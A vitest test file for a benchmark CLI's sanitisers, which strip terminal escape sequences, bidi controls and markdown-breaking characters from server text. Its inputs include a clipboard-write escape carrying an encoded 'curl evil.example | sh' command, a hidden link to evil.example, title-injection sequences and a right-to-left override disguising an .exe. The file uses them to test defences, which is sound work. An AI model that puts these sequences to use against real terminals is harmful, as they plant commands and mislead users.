/** A server's text made safe for a terminal and a markdown summary, with the sequences terminals act on. */
import { describe, expect, it } from "vitest";
import { takeUploadTimeout } from "../../scripts/cli/bench";
import { mdEscape, mdLinkTarget } from "../../scripts/cli/markdown";
import { DEFAULT_SERVER_URL, serverBase, timeoutMsFrom } from "../../scripts/cli/server-request";
import { terminalSafe, terminalSafeJson } from "../../scripts/cli/server-text";

describe("terminalSafe", () => {
  it.each([
    ["clear screen and cursor home (CSI)", "before\x1b[2J\x1b[Hafter", "beforeafter"],
    ["colours (SGR) around a word", "\x1b[1;31mred\x1b[0m text", "red text"],
    ["a private-mode CSI (hide the cursor)", "a\x1b[?25lb", "ab"],
    ["the window title, ended by BEL (OSC 0)", "\x1b]0;pwned\x07ok", "ok"],
    ["the window title, ended by ST (OSC 2)", "\x1b]2;pwned\x1b\\ok", "ok"],
    ["a clipboard write (OSC 52)", "copy\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 this", "copy this"],
    ["a hidden link (OSC 8)", "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\", "click here"],
    ["a device control string (DCS, sixel)", "x\x1bPq#0;2;0;0;0#0~~\x1b\\y", "xy"],
    ["an application program command (APC)", "x\x1b_payload\x1b\\y", "xy"],
    ["a C1 CSI (U+009B)", "a\u009b2Jb", "ab"],
    ["a C1 OSC ended by C1 ST (U+009D … U+009C)", "a\u009d0;pwned\u009cb", "ab"],
    ["a terminal reset (ESC c) and a charset switch (ESC ( 0)", "\x1bca\x1b(0b\x1b(B", "ab"],
    ["save and restore the cursor (ESC 7, ESC 8)", "\x1b7ab\x1b8", "ab"],
    ["a lone ESC at the end", "abc\x1b", "abc"],
    ["a carriage return that would overwrite the line", "upload ok\rFAILED  ", "upload okFAILED  "],
    ["BEL, backspace, NUL, vertical tab, form feed", "a\x07b\x08c\x00d\x0be\x0cf", "abcdef"],
    ["DEL", "a\x7fb", "ab"],
    ["C1 controls (NEL, IND, an APC without its end)", "a\u0085b\u0084c\u009fd", "abcd"],
    ["a right-to-left override hiding a file's extension", "invoice\u202Efdp.exe\u202C", "invoicefdp.exe"],
    ["embeddings, isolates and marks", "\u202Aa\u202Bb\u2066c\u2067d\u2068e\u2069\u200Ef\u200Fg\u061Ch", "abcdefgh"],
  ])("removes %s", (_, given, expected) => {
    expect(terminalSafe(given)).toBe(expected);
  });

  it("keeps newlines, tabs and every readable character", () => {
    const readable = "Kimi-K2.5 INT4\t82.5 tok/s → 1,536 — ünïcödé 日本語 🙂\n| a | b |\n[link](http://h/x) `code`";
    expect(terminalSafe(readable)).toBe(readable);
  });

  it("writes the Unicode line and paragraph separators as newlines", () => {
    expect(terminalSafe("one\u2028two\u2029three")).toBe("one\ntwo\nthree");
  });

  it("leaves no control character of C0 (but newline and tab), DEL or C1, alone or after ESC", () => {
    for (let code = 0; code <= 0x9f; code += 1) {
      const char = String.fromCharCode(code);
      const printable = (code >= 0x20 && code < 0x7f) || char === "\n" || char === "\t";
      expect(terminalSafe(char), `U+${code.toString(16)}`).toBe(printable ? char : "");
      expect(terminalSafe(`\x1b${char}`), `ESC U+${code.toString(16)}`).not.toMatch(
        // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
        /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/,
      );
    }
  });

  it("shows an unterminated OSC's text, without the ESC that would make it a command", () => {
    expect(terminalSafe("\x1b]52;c;Y3VybA== and the rest")).toBe("52;c;Y3VybA== and the rest");
  });

  it("does not assemble a sequence out of the pieces around a removed character", () => {
    expect(terminalSafe("\x1b\x00[2J")).toBe("[2J");
    expect(terminalSafe("\x1b\x1b[2J]")).toBe("]");
  });

  it("is idempotent", () => {
    const hostile = "\x1b]0;t\x07a\u009b31mb\x1b[0m\r\u202Ec\u2028d\x1b";
    expect(terminalSafe(terminalSafe(hostile))).toBe(terminalSafe(hostile));
    expect(terminalSafe(hostile)).toBe("abc\nd");
  });

  it("cleans long runs of sequence introducers without a terminator", () => {
    const text = "\u009dword ".repeat(100_000);
    expect(terminalSafe(text)).toBe("word ".repeat(100_000));
  });

  it("prints a value that is not a string as String() writes it", () => {
    expect(terminalSafe(42 as unknown as string)).toBe("42");
  });
});

describe("terminalSafeJson", () => {
  const hostile = {
    name: "run\x1b]0;pwned\x07\u009b2J\u202E\u2066\u200F\u061C\u2028\u2029\x7f",
    list: ["a\rb", 1, null],
  };

  it("escapes what JSON.stringify leaves raw: DEL, C1, bidi controls, line separators", () => {
    const text = terminalSafeJson(hostile, 2);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
    expect(text).not.toMatch(/[\u2028\u2029]/);
    expect(text).toContain(String.raw`run\u001b]0;pwned\u0007\u009b2J\u202e\u2066\u200f\u061c\u2028\u2029\u007f`);
  });

  it("keeps the data exact: it parses back to the same value", () => {
    expect(JSON.parse(terminalSafeJson(hostile, 2))).toEqual(hostile);
    expect(terminalSafeJson({ a: "ü → 日本" })).toBe('{"a":"ü → 日本"}');
  });
});

describe("markdown of a server's text", () => {
  it("mdEscape keeps a name on one line, without controls, its markdown escaped", () => {
    expect(mdEscape("a|b\u2028c\x1b[2J [x](y)\r\nd")).toBe("a\\|b c \\[x\\]\\(y\\) d");
  });

  it("mdLinkTarget leaves an ordinary link alone", () => {
    expect(mdLinkTarget("http://localhost:3000/runs/a_B-c9?x=1#change-2")).toBe(
      "http://localhost:3000/runs/a_B-c9?x=1#change-2",
    );
  });

  it("mdLinkTarget encodes what would end the link, break its row or start a new line", () => {
    expect(mdLinkTarget('http://h/runs/x) [evil](http://e "t"|\x1b]8;;u\x07\u2028#')).toBe(
      "http://h/runs/x%29%20%5Bevil%5D%28http://e%20%22t%22%7C%0A#",
    );
    expect(mdLinkTarget("http://h/a\u00a0b<c>\\`")).toBe("http://h/a%C2%A0b%3Cc%3E%5C%60");
  });
});

describe("--timeout SECONDS", () => {
  it("is the default when not given, else its seconds in ms", () => {
    expect(timeoutMsFrom("--timeout", undefined, 30_000)).toBe(30_000);
    expect(timeoutMsFrom("--timeout", "2", 30_000)).toBe(2_000);
    expect(timeoutMsFrom("--timeout", "0.25", 30_000)).toBe(250);
    expect(timeoutMsFrom("--timeout", "2147483", 30_000)).toBe(2_147_483_000);
  });

  it.each(["0", "0.0", "-1", "abc", "", "1e3", "Infinity", "2147484"])('refuses "%s"', (given) => {
    expect(() => timeoutMsFrom("--timeout", given, 30_000)).toThrow(
      `--timeout must be a number of seconds above 0 and at most 2147483, not "${given}"`,
    );
  });

  it("bench takes --upload-timeout out of its words, in both spellings, and leaves the rest", () => {
    expect(
      takeUploadTimeout([
        "--base-url",
        "http://h:8000",
        "--upload-timeout",
        "5",
        "--upload",
        "http://s",
        "--timeout",
        "9",
      ]),
    ).toEqual({ rest: ["--base-url", "http://h:8000", "--upload", "http://s", "--timeout", "9"], given: "5" });
    expect(takeUploadTimeout(["--upload-timeout=7", "--upload", "http://s"])).toEqual({
      rest: ["--upload", "http://s"],
      given: "7",
    });
    expect(takeUploadTimeout(["--upload", "http://s"])).toEqual({ rest: ["--upload", "http://s"] });
  });
});

describe("the server a command talks to", () => {
  it("is --url, else $SERVEBENCH_URL, else the local default, each without its trailing slashes", () => {
    expect(serverBase("http://bench.example.com:8080///", { SERVEBENCH_URL: "http://other" })).toBe(
      "http://bench.example.com:8080",
    );
    expect(serverBase(undefined, { SERVEBENCH_URL: "https://team.example.com/servebench/" })).toBe(
      "https://team.example.com/servebench",
    );
    expect(serverBase(undefined, {})).toBe(DEFAULT_SERVER_URL);
    expect(DEFAULT_SERVER_URL).toBe("http://localhost:3000");
  });
});
